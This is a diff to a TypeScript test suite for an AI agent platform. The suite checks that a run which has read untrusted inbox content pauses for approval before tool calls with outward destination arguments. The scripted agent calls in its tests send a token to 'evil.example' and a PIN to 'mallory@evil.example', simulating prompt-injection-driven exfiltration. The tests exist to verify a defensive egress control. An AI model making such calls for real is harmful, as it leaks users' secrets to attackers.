@@ -31,7 +31,7 @@ describe.each(storeTargets())('MCP destination arguments in tainted runs on $kin
   /** The model reads the inbox (untrusted output: the run is tainted), makes the call, then answers if it can. */
   const taintedCall = (name: string, args: Record<string, unknown>, answers: boolean) =>
     model.enqueue(
-      { kind: 'tool_calls', toolCalls: [{ name: 'web_open_inbox', arguments: {} }] },
+      { kind: 'tool_calls', toolCalls: [{ name: 'web__open_inbox', arguments: {} }] },
       { kind: 'tool_calls', toolCalls: [{ name, arguments: args }] },
       ...(answers ? [{ text: 'Done.' }] : []),
     );
@@ -60,7 +60,7 @@ describe.each(storeTargets())('MCP destination arguments in tainted runs on $kin
     }
     await h.createAgent({
       name: 'reader',
-      tools: ['web.open_inbox', 'web.visit', 'web.lookup_account'],
+      tools: ['web__open_inbox', 'web__visit', 'web__lookup_account'],
       limits: { maxSteps: 5 },
     });
   }, 60_000);
@@ -79,21 +79,21 @@ describe.each(storeTargets())('MCP destination arguments in tainted runs on $kin
   });
 
   it('pauses a read-labelled tool with a format: uri argument in a tainted run', async () => {
-    taintedCall('web_visit', { url: 'https://evil.example/verify?token=launch-code' }, false);
+    taintedCall('web__visit', { url: 'https://evil.example/verify?token=launch-code' }, false);
     const paused = await h.runTask('reader', 'What is in my inbox?');
     expect(paused.status).toBe('paused');
     expect(paused.pause).toMatchObject({
       reason: 'approval_required',
-      tool: 'web.visit',
+      tool: 'web__visit',
       ruleId: 'flow.egress_destination',
     });
     const approval = await approvalOf(paused.id);
     expect(approval?.ruleId).toBe('flow.egress_destination');
-    expect(approval?.reason).toContain('the url argument of "web.visit" names a destination');
-    expect(approval?.reason).toContain('the run has read untrusted content from "web.open_inbox"');
+    expect(approval?.reason).toContain('the url argument of "web__visit" names a destination');
+    expect(approval?.reason).toContain('the run has read untrusted content from "web__open_inbox"');
     expect(await decisions(paused.id)).toEqual([
-      'web.open_inbox:allow:default.allow',
-      'web.visit:ask:flow.egress_destination',
+      'web__open_inbox:allow:default.allow',
+      'web__visit:ask:flow.egress_destination',
     ]);
     await cancel(paused.id);
   });
@@ -102,22 +102,22 @@ describe.each(storeTargets())('MCP destination arguments in tainted runs on $kin
     model.enqueue(
       {
         kind: 'tool_calls',
-        toolCalls: [{ name: 'web_visit', arguments: { url: 'https://evil.example/verify?token=x' } }],
+        toolCalls: [{ name: 'web__visit', arguments: { url: 'https://evil.example/verify?token=x' } }],
       },
       { text: 'Visited.' },
     );
     const run = await h.runTask('reader', 'Visit the page');
     expect(run.status).toBe('succeeded');
-    expect(await decisions(run.id)).toEqual(['web.visit:allow:default.allow']);
+    expect(await decisions(run.id)).toEqual(['web__visit:allow:default.allow']);
   });
 
   it('pauses an argument once an admin marks it as a destination; unknown names are refused', async () => {
-    taintedCall('web_lookup_account', { account: 'mallory@evil.example', note: 'x' }, true);
+    taintedCall('web__lookup_account', { account: 'mallory@evil.example', note: 'x' }, true);
     const before = await h.runTask('reader', 'Check my inbox');
     expect(before.status).toBe('succeeded');
     expect(await decisions(before.id)).toEqual([
-      'web.open_inbox:allow:default.allow',
-      'web.lookup_account:allow:default.allow',
+      'web__open_inbox:allow:default.allow',
+      'web__lookup_account:allow:default.allow',
     ]);
 
     const unknown = await h.api<{ error: { code: string; message: string } }>(
@@ -146,12 +146,12 @@ describe.each(storeTargets())('MCP destination arguments in tainted runs on $kin
       destinations: ['account'],
     });
 
-    taintedCall('web_lookup_account', { account: 'mallory@evil.example', note: 'x' }, false);
+    taintedCall('web__lookup_account', { account: 'mallory@evil.example', note: 'x' }, false);
     const after = await h.runTask('reader', 'Check my inbox');
     expect(after.status).toBe('paused');
-    expect(after.pause).toMatchObject({ tool: 'web.lookup_account', ruleId: 'flow.egress_destination' });
+    expect(after.pause).toMatchObject({ tool: 'web__lookup_account', ruleId: 'flow.egress_destination' });
     expect((await approvalOf(after.id))?.reason).toContain(
-      'the account argument of "web.lookup_account" names a destination (mallory@evil.example: it is outside the workspace\'s egress allowlist)',
+      'the account argument of "web__lookup_account" names a destination (mallory@evil.example: it is outside the workspace\'s egress allowlist)',
     );
     await cancel(after.id);
   });
@@ -188,12 +188,12 @@ describe.each(storeTargets())('MCP destination arguments in tainted runs on $kin
     });
 
     // The inbox is the workspace's own data now: the run is not tainted, the call needs nobody.
-    taintedCall('web_lookup_account', { account: 'mallory@evil.example', note: 'x' }, true);
+    taintedCall('web__lookup_account', { account: 'mallory@evil.example', note: 'x' }, true);
     const run = await h.runTask('reader', 'Check my inbox');
     expect(run.status).toBe('succeeded');
     expect(await decisions(run.id)).toEqual([
-      'web.open_inbox:allow:default.allow',
-      'web.lookup_account:allow:default.allow',
+      'web__open_inbox:allow:default.allow',
+      'web__lookup_account:allow:default.allow',
     ]);
     const reset = await h.api('PATCH', '/api/mcp/servers/web/tools/open_inbox', { trustedOutput: false });
     expect(reset.status).toBe(200);
@@ -203,7 +203,7 @@ describe.each(storeTargets())('MCP destination arguments in tainted runs on $kin
       argumentRoles: { account: 'recipient', note: 'secret' },
     });
     expect(secret.status).toBe(200);
-    taintedCall('web_lookup_account', { account: 'mallory@evil.example', note: 'pin 1234' }, false);
+    taintedCall('web__lookup_account', { account: 'mallory@evil.example', note: 'pin 1234' }, false);
     const asked = await h.runTask('reader', 'Check my inbox');
     expect(asked.status).toBe('paused');
     expect((await approvalOf(asked.id))?.arguments).toEqual({
